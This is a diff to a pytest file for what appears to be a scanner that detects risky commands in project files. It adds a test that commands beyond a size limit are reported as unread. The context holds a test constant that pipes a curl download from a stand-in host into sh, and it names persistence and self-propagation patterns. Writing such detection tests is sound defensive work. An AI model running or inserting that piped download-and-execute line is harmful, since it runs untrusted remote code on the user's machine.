@@ -7,6 +7,7 @@ import pytest
 from fimci import readers
 from fimci.look import take
 from fimci.model import Capability, Unread
+from fimci.readers.code import lined
 from fimci.snapshot import Entry, Recipe
 
 PIPED = "curl -s https://c.invalid/x | sh"
@@ -97,3 +98,10 @@ def test_commands_are_read_where_they_stand(path: str, text: str, place: tuple[s
 )
 def test_other_texts_are_no_commands(path: str, text: str) -> None:
     assert not {CHAIN, "persistence sc", "self-propagation cargo publish"} & told(path, text).keys()
+
+
+def test_what_is_beyond_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(lined, "_LIMIT", 20)
+    (found,) = (one for one in lined.read("justfile", b"a:\n    true\n" * 9) if isinstance(one, Unread))
+    assert found.part == "commands beyond"
+    assert not list(lined.read("other", b"a:\n"))
